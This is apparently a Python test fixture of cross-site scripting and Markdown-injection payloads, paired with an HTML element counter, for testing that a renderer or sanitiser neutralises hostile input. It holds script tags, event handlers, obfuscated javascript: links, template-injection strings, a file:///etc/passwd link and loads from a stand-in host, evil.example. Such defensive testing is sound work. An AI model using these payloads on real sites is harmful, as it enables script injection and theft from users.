"""Texts that try to become more than text: markup, scripts, links that run, Markdown that is bent."""

from html.parser import HTMLParser

RUN = "window.attacked=1"
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}//",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/)}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    f"</p></div></main><script>{RUN}</script>",
    f"<div hx-get='/account/' hx-trigger=load hx-on::load={RUN}>",
    f"<x\x0conclick={RUN}>",
    f"<a/onmouseover={RUN}>x",
    "<div style='position:fixed;inset:0'>",
    "<p id=main name=documentElement class=note>",
)
LINKS = tuple(
    f"[x]({address})"
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java&#115;cript:{RUN}",
        f"java\\script:{RUN}",
        f"<java\tscript:{RUN}>",
        f"&#x6A;avascript:{RUN}",
        f"\x01javascript:{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;base64,PHNjcmlwdD4={RUN}",
        f"view-source:javascript:{RUN}",
        "file:///etc/passwd",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        f'https://ok.example/" onmouseover="{RUN}',
        f'https://ok.example/ "title\\" onclick=\'{RUN}\'"',
        f"https://ok.example/'onclick='{RUN}",
    )
)
BENT = (
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"<https://ok.example/onclick={RUN}>",
    f"![x](javascript:{RUN})",
    f"![x](https://evil.example/pixel.png 'x' onerror={RUN})",
    f"[![x](x)](javascript:{RUN})",
    f"```html onload={RUN}\n<script>{RUN}</script>\n```",
    f'```" onclick="{RUN}\nx\n```',
    f"`<script>{RUN}</script>`",
    f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",
    f"# <script>{RUN}</script>",
    f"> <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script>{RUN}\\</script>",
    f"@ada<script>{RUN}</script>",
    f'@ada" onclick="{RUN}',
    f"<ada@example.org><script>{RUN}</script>",
    f"[a](/x)<img src=x onerror={RUN}>[b](/y)",
    f"*<img src=x onerror=*{RUN}>",
    f"{{{{ constructor.constructor('{RUN}')() }}}}",
    "{% load static %}{{ request.user.password }}",
    "\u202e<script>\u2066",
)
ATTACKS = (*MARKUP, *LINKS, *BENT)


class Elements(HTMLParser):
    """Every element of a page with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def number(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.seen)
